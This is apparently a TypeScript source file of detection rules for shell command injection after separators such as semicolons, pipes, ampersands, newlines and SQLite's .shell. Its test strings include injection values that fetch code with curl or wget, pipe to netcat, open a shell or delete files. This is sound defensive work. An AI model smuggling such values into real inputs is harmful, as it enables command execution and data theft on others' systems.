// Shell patterns for commands after a separator: `;`, `&`, `&&`, `|`, `||` and the end of a line.
import { LETTER, QUOTE, WORD } from "../char-classes.ts";
import { charSet, charSetExcept } from "../char-set.ts";
import { lit, not, oneOf, opt, run, seq, times } from "../combinators.ts";
import { NO_MATCH, zeroWidth } from "../matcher.ts";
import { pattern, type Pattern } from "../pattern.ts";
import { identifier, ows, quote, rws } from "../tokens.ts";
import {
  afterFieldValue,
  allOf,
  atTextStart,
  COMMAND_LINE_START,
  notAlternation,
  notInEntity,
  notInTable,
  notQuotedExample,
} from "./shell-context.ts";
import {
  commandLine,
  notIdentifierBefore,
  notProse,
  shellArgument,
  textFilter,
  wordCommand,
} from "./shell-grammar.ts";

/** Spaces, but no newline: in a program, `;` at the end of a line is followed by another statement. */
const spaces = times(0, 2, lit(" "));
/** A string as a type, as in the TypeScript union `"read" | "watch"`. */
const stringType = seq(quote, run(WORD, 1, 24), quote, not(seq(lit(" "), shellArgument)));
const endOfText = zeroWidth((input, at) => (at >= input.length ? at : NO_MATCH));

export const SHELL_SEPARATORS: readonly Pattern[] = [
  pattern("shell.breakout", [";", "|", "&", "\n"], {
    catches:
      "a command after a separator at the start of the text, where an injection ends the value before it",
    from: "relaxed",
    finds: [
      "; id",
      "';id;'",
      "| uname -a",
      '"); cat notes.txt #',
      "&& ls -la",
      "&ping -c 3 192.0.2.7&",
      "|| curl http://192.0.2.9/x",
      "\n/usr/bin/id\n",
      "'\nsleep 5",
      "; dir c:\\",
      "& set /a 17*23",
      "| net user",
      "; echo x9f2",
      ";echo a$(id)",
      "; if [ -f x ]; then id; fi",
      "; for f in /tmp/x; do id; done",
    ],
    ignores: [
      "; ls is short for list",
      "| ls | whoami |\n|---|---|",
      "& id, the other field",
      "ls docs | sort -u",
      "; head, then tail",
    ],
    guard: atTextStart,
    before: notInTable,
    after: seq(times(0, 3, oneOf("|&; \n")), notProse, commandLine),
  }),
  pattern("shell.separator", [";"], {
    catches: "a command after a semicolon",
    from: "balanced",
    finds: [
      "x; rm -rf build",
      "name=a;id",
      "photo.png; cat notes.txt",
      "1); wget http://192.0.2.1/a",
      "host;sleep 9",
      "1; $a$b /tmp/x",
    ],
    ignores: [
      "It is late; cat owners agree",
      "He wrote it; python is his favorite.",
      "Fish &amp; chips",
      'Why does "sort a.txt; uniq b.txt" print nothing?',
      "$total = 5; echo $total;",
      "x = 1;\nkill -9",
      "Use a cursor; set `archived` too",
      "do { i++; } while (c != '\\0');",
    ],
    followedBy: COMMAND_LINE_START,
    before: allOf(notInEntity, notQuotedExample),
    after: seq(spaces, notProse, commandLine),
  }),
  pattern("shell.operator", ["&&", "||"], {
    catches: "a command after `&&` or `||`",
    from: "balanced",
    finds: ["x && whoami", "x || ping -c 1 example.com", "1||sleep 5", "a && cat /tmp/x"],
    ignores: [
      "const key = name || id;",
      "if (user && hostname) return;",
      "He said && ls is short",
      'What does "make x && ls -l" do?',
    ],
    followedBy: COMMAND_LINE_START,
    before: notQuotedExample,
    after: seq(spaces, notIdentifierBefore(");,?:<>&|"), notProse, commandLine),
  }),
  pattern("shell.operator", ["&"], {
    catches: "a command after a single `&`, which starts the command before it in the background",
    from: "balanced",
    finds: ["192.0.2.1 & whoami", "x&ipconfig /all", "1&ls -la&"],
    ignores: [
      "ok = user && env && go",
      'scanf("%d", &id);',
      "a.html?x=1&id=5&sort=date",
      "Rock & time",
      'What does "make x & ls -l" do?',
    ],
    precededBy: charSetExcept(0, "&"),
    followedBy: COMMAND_LINE_START,
    before: notQuotedExample,
    after: seq(spaces, notIdentifierBefore(");,?:<>"), notProse, commandLine),
  }),
  pattern("shell.pipe", ["|"], {
    catches: "a pipe into a command that is not a text filter",
    from: "balanced",
    finds: ["x | nc 192.0.2.1 80", "a|/usr/bin/id", "q=1|whoami", "x | sh"],
    ignores: [
      "| command | what it does |\n| ls | ping | whoami |",
      "ps aux | grep nginx | sort",
      "A or B | python is neither",
      "const key = name || id;",
      "/^(start|kill|stop)$/",
      "r'stop|zip)'",
      'type Change =\n  | "mkdir"\n  | "watch";',
      'The line "a.txt | nc host" is quoted.',
    ],
    precededBy: charSetExcept(0, "|"),
    followedBy: COMMAND_LINE_START,
    before: allOf(notInTable, notAlternation, notQuotedExample),
    after: seq(spaces, not(textFilter), not(stringType), notIdentifierBefore(")"), notProse, commandLine),
  }),
  pattern("shell.newline-command", ["\n"], {
    catches: "a command on a line of its own after a value such as an address or a number",
    from: "balanced",
    finds: ["192.0.2.1\nid", "id=5\n/usr/bin/id", "1\n ping -c 9 192.0.2.1\n"],
    ignores: ["Explain this:\nls -la", "42\nping me when you are back"],
    followedBy: charSet(LETTER | QUOTE, " /"),
    guard: afterFieldValue,
    after: seq(ows, notProse, commandLine),
  }),
  pattern("shell.last-command", [";", "|"], {
    catches: "a command name without an argument after a separator, at the end of the text",
    from: "balanced",
    finds: ["report.txt;top", "x|who"],
    ignores: ["a;topology"],
    followedBy: charSet(LETTER),
    after: seq(wordCommand, endOfText),
  }),
  pattern("shell.dot-command", [";", "\n"], {
    catches: "SQLite's command that runs a shell",
    from: "relaxed",
    finds: ["1;.shell id", "x\n.shell nc 192.0.2.1 4444", "1;.'shell whoami"],
    ignores: ["; .shell { color: red }", "1;.shells are sold here"],
    after: seq(opt(lit(" ")), lit("."), times(0, 3, oneOf(" \\'\"")), lit("shell"), rws, identifier),
  }),
];
